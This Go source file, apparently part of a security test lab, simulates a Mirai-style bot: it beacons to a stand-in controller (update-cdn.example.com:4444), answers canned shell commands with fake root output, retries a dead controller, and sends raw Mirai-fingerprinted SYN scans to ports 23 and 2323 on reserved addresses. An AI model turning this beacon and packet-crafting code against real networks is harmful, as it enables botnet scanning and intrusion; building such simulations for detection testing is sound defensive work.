// SPDX-License-Identifier: Apache-2.0

package machine

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"stillwatch/internal/testlab/netns"
)

// The keys of the bot's steps.
const (
	BotCalls    = "bot-calls"
	BotCallback = "bot-callback"
	BotScans    = "bot-scans"
)

// The ports of the controllers.
const (
	controllerPort = 4444
	gonePort       = 6667
)

// bot is the program that the attacker installs on the recorder: it connects to its controller and follows commands, tries a second controller
// that does not answer, and scans for victims.
func (m *machine) bot() error {
	m.report(BotCalls, "looks up update-cdn.example.com, connects to %s:%d and takes orders there", netns.Controller, controllerPort)
	if err := m.obey(); err != nil {
		m.report("", "the controller is lost: %v", err)
	}
	m.report(BotCallback, "tries %s:%d six times; nobody listens there", netns.Gone, gonePort)
	for range 6 {
		if c, err := net.DialTimeout("tcp4", fmt.Sprintf("%s:%d", netns.Gone, gonePort), time.Second); err == nil {
			_ = c.Close()
		}
		pause(m.ctx, 500*time.Millisecond)
	}
	m.report(BotScans, "sends 200 SYNs to addresses outside on 23 and 2323, as Mirai does")
	return m.seek(200)
}

// obey answers the controller's lines until the controller closes the connection.
func (m *machine) obey() error {
	ip, err := lookup(m.ctx, "update-cdn.example.com")
	if err != nil {
		return err
	}
	c, err := dialer(netip.Addr{}, 3*time.Second).DialContext(m.ctx, "tcp4", netip.AddrPortFrom(ip, controllerPort).String())
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	for in := bufio.NewReader(c); ; {
		line, err := in.ReadString('\n')
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
		out := map[string]string{"id": "uid=0(root) gid=0(root)", "uname -a": "Linux dvrdvs 3.10.0 armv7l GNU/Linux"}[strings.TrimSpace(line)]
		if _, err := io.WriteString(c, out+"\n#"); err != nil {
			return err
		}
	}
}

// command is the controller's side of the connection.
func (m *machine) command(c net.Conn) {
	in := bufio.NewReader(c)
	for _, line := range []string{"id", "uname -a", "ps"} {
		if _, err := io.WriteString(c, line+"\n"); err != nil {
			return
		}
		if _, err := in.ReadString('#'); err != nil {
			return
		}
		pause(m.ctx, 600*time.Millisecond)
	}
}

// seek sends SYNs like Mirai: no options, and the destination address as sequence number. It does not wait for answers.
func (m *machine) seek(n int) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	own := netns.Address(netns.Recorder)
	for i := range n {
		to := netip.AddrFrom4([4]byte{192, 0, 2, byte(20 + i)})
		if i%3 == 1 {
			to = netip.AddrFrom4([4]byte{203, 0, 113, byte(100 + i%100)}) // silent
		}
		port := uint16(23)
		if i%10 == 0 {
			port = 2323
		}
		p := miraiSYN(own, to, uint16(30000+rand.IntN(20000)), port)
		if err := unix.Sendto(fd, p, 0, &unix.SockaddrInet4{Addr: to.As4()}); err != nil {
			return err
		}
		pause(m.ctx, 25*time.Millisecond)
	}
	return nil
}

// miraiSYN returns an IP packet; the kernel fills in identification and checksum of the IP header.
func miraiSYN(from, to netip.Addr, sport, dport uint16) []byte {
	const tcpLen, syn = 20, 0x02
	src, dst := from.As4(), to.As4()
	p := []byte{0x45, 0, 0, 40, 0, 0, 0, 0, 64, unix.IPPROTO_TCP, 0, 0}
	p = append(append(p, src[:]...), dst[:]...)
	t := binary.BigEndian.AppendUint16(nil, sport)
	t = binary.BigEndian.AppendUint16(t, dport)
	t = append(t, dst[:]...)
	t = append(t, 0, 0, 0, 0, tcpLen/4<<4, syn, 0x39, 0x08, 0, 0, 0, 0)
	sum := uint32(unix.IPPROTO_TCP + tcpLen)
	for i := 0; i < 4; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(src[i:])) + uint32(binary.BigEndian.Uint16(dst[i:]))
	}
	binary.BigEndian.PutUint16(t[16:], netns.Checksum(sum, t))
	return append(p, t...)
}
